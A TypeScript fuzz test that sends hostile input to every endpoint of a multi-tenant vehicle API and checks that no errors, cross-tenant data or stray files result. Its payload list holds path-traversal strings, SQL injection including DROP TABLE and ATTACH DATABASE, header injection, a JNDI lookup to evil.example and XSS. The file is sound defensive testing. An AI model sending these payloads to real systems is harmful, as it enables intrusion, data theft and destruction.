/**
 * Hostile text in every place that a caller fills: ids in paths, cursors and other parts of queries, bodies, user agents,
 * idempotency keys, tokens. Against the running API over real stores, from a seed that is printed
 * (the same again: `node test/cloud/commands/injection.test.ts SEED`). Whatever is sent, nobody sees an error of ours, another tenant's data or
 * an answer that is not JSON, and no file appears.
 */
import { existsSync, readdirSync } from "node:fs";
import { type PlatformDesk, ROLES } from "@kerbside/protocol";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { AUDIT } from "../../conformance/car-log.ts";
import { person } from "../../conformance/people-store.ts";
import { freshSeed, randomOf } from "../../fuzz/random.ts";
import { type Ask, openRig, type Reply, type Rig } from "./rig.ts";

type Parameter = { readonly name: string; readonly in: string };
type Endpoint = {
  readonly method: string;
  readonly path: string;
  readonly parameters: readonly Parameter[];
  readonly example: unknown;
};
type Tokens = { readonly program: string; readonly member: string; readonly platform: string };
type Context = { rig: Rig; endpoints: readonly Endpoint[]; tokens: Tokens };
const test = suite<Context>("injection");
const seed = Number(process.argv[2] ?? freshSeed());
const ROUNDS = 3;
/** Every one that a tenant's own may have, so that no gate keeps hostile text from what lies behind it. */
const SCOPES: ReadonlySet<string> = new Set(
  Object.values(ROLES)
    .flatMap(({ scopes }): readonly string[] => scopes)
    .filter((scope) => !scope.startsWith("platform:")),
);
/** What nobody of the first tenant may ever read. */
const SECRET = "the-other-tenants-own";

const INJECTED = "/tmp/kb-injected.sqlite";
const HOSTILE = [
  "../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "....//....//platform.sqlite",
  "/etc/passwd",
  "C:\\windows\\win.ini",
  "car-1\u0000.sqlite",
  "' OR '1'='1",
  "'; DROP TABLE vehicles; --",
  '" UNION SELECT * FROM subject_keys --',
  `1); ATTACH DATABASE '${INJECTED}' AS x; --`,
  "%' OR 1=1 --",
  "car-1~0~0~0~1' OR '1'='1",
  "\r\nSet-Cookie: taken=1",
  "%0d%0aLocation: https://evil.example",
  '\n{"level":"info","event":"forged"}',
  "\u2028\u2029",
  "\u202egnp.exe",
  "$" + "{jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "__proto__",
  "constructor",
  "toString",
  "other",
  "car-1,other",
  "9".repeat(400),
  "-1",
  "1e309",
  "NaN",
  "a".repeat(3000),
  "\ud800",
  "",
];

test.before(async (context) => {
  process.stdout.write(`seed ${seed}\n`);
  const desk = (): PlatformDesk => context.rig.registry.platform.desk;
  const platform: PlatformDesk = {
    tenants: () => desk().tenants(),
    order: (...asked) => desk().order(...asked),
    agree: (...asked) => desk().agree(...asked),
    remove: (...asked) => desk().remove(...asked),
    benchmark: (...asked) => desk().benchmark(...asked),
  };
  context.rig = await openRig(undefined, { platform });
  const { rig } = context;
  const member = person();
  await (await rig.store()).people.putPerson(member, AUDIT);
  const { mint } = rig.issuer;
  context.tokens = {
    program: await mint({ scope: [...SCOPES].join(" ") }),
    member: await mint({ role: "member", subject: `person:${member.person}` }),
    platform: await mint({ scope: "platform:admin" }),
  };
  const { body } = await rig.ask({ path: "/openapi.json" });
  const paths = Object.entries<Record<string, Described>>(body.paths);
  context.endpoints = paths
    .filter(([path]) => path.includes("{tenant}") || path.startsWith("/v1/platform"))
    .flatMap(([path, methods]) =>
      Object.entries(methods).map(([method, { parameters = [], requestBody }]) => ({
        ...{ method: method.toUpperCase(), path, parameters },
        example: requestBody?.content?.["application/json"]?.example,
      })),
    );
  const other = await rig.store("other");
  const entry = { actor: SECRET, action: SECRET, subject: SECRET, outcome: "done" } as const;
  await other.audit(entry);
});
type Described = {
  readonly parameters?: readonly Parameter[];
  readonly requestBody?: {
    readonly content?: Readonly<Record<string, { readonly example?: unknown }>>;
  };
};
test.after(({ rig }) => rig.close());

const random = randomOf(seed);
const below = (n: number): number => random.int(n);
const hostile = (): string => HOSTILE[below(HOSTILE.length)] ?? "";

/** As a header can carry it; the client refuses the rest itself. */
const header = (text: string): string =>
  [...text]
    .filter((c) => c >= " " && c <= "~")
    .join("")
    .slice(0, 1000);

/** The example with some of its texts replaced, at any depth. */
function spoilt(value: unknown): unknown {
  if (typeof value === "string") return below(2) === 0 ? hostile() : value;
  if (Array.isArray(value)) return value.map(spoilt);
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, of]) => [name, spoilt(of)]));
}

/** Of who may ask there. */
function tokenFor({ path }: Endpoint, { program, member, platform }: Tokens): string {
  if (path.startsWith("/v1/platform")) return platform;
  return /\/me(?:\/|$)/.test(path) ? member : program;
}

function askOf(endpoint: Endpoint, tokens: Tokens): Ask {
  const { method, path, parameters, example } = endpoint;
  const token = tokenFor(endpoint, tokens);
  let place = path.replace("{tenant}", below(4) === 0 ? encodeURIComponent(wellFormed()) : "demo");
  const query = new URLSearchParams();
  for (const { name, in: where } of parameters) {
    if (where === "path") place = place.replace(`{${name}}`, encodeURIComponent(wellFormed()));
    if (where === "query" && below(2) === 0) query.set(name, hostile());
  }
  const body = method === "GET" ? undefined : (spoilt(example) ?? { [hostile()]: hostile() });
  return {
    ...{ method, body, token: below(8) === 0 ? header(hostile()) : token },
    path: query.size === 0 ? place : `${place}?${query}`,
    headers: {
      "user-agent": header(hostile()),
      "idempotency-key": header(hostile()),
      "last-event-id": header(hostile()),
      "x-forwarded-for": header(hostile()),
    },
  };
}
/** A lone surrogate cannot be written in a URL. */
const wellFormed = (): string => hostile().toWellFormed();

function wrongOf({ status, text, headers }: Reply): string | undefined {
  if (text.includes("token: expected scope")) return "kept out by the gate: nothing is tried here";
  if (status >= 500 && status !== 503) return `status ${status}`;
  if (text.includes(SECRET)) return "another tenant's data";
  if (headers["set-cookie"] !== undefined) return "a header of the caller's";
  // What was kept of a person is shown to them again, hostile or not.
  if (/SQLITE|node:internal|at async|kb-commands-/.test(text)) return "something from within";
  const type = String(headers["content-type"] ?? "");
  return /^(application\/(problem\+)?json|text\/event-stream)/.test(type) || status === 414
    ? undefined
    : `type ${type}`;
}

/** Databases write logs beside them as they are used. */
function filesOf({ dir }: Rig): readonly string[] {
  const all = readdirSync(dir, { recursive: true, encoding: "utf8" });
  return all.filter((name) => !/-(wal|shm)$/.test(name)).sort();
}

test(`P-02 hostile text in every place finds nothing, breaks nothing, leaves nothing (seed ${seed})`, async ({
  rig,
  endpoints,
  tokens,
}) => {
  const before = filesOf(rig);
  const wrong: string[] = [];
  // Streams stay open; the feed is asked for pages here.
  for (let round = 0; round < ROUNDS; round += 1) {
    const asks = endpoints.map((endpoint) => askOf(endpoint, tokens));
    const answers = await Promise.all(
      asks.map((ask) => rig.ask(ask).catch((error: unknown) => String(error))),
    );
    for (const [i, answer] of answers.entries()) {
      const what = typeof answer === "string" ? answer : wrongOf(answer);
      if (what !== undefined) wrong.push(`${what}: ${JSON.stringify(asks[i]).slice(0, 400)}`);
    }
  }
  assert.equal(wrong, []);
  assert.equal(filesOf(rig), before);
  assert.not(existsSync(INJECTED), INJECTED);
  const cars = await rig.ask({ path: "/v1/tenants/demo/vehicles", token: tokens.program });
  assert.is(cars.body.items.length, 2, "the cars are still there");
});

test("unfinished and foreign cursors are refused, not guessed at", async ({ rig, tokens }) => {
  const token = tokens.program;
  for (const list of ["events", "trips", "feed", "audit", "people"])
    for (const after of ["other~x", "a~1~2", "0~0", "%00", "car-1~1~1~1~1~1~1"]) {
      const path = `/v1/tenants/demo/${list}?after=${after}`;
      const { status, text } = await rig.ask({ path, token });
      assert.ok(status === 400 || status === 200, `${path}: ${status} ${text}`);
      assert.not.match(text, new RegExp(SECRET));
    }
});

test.run();
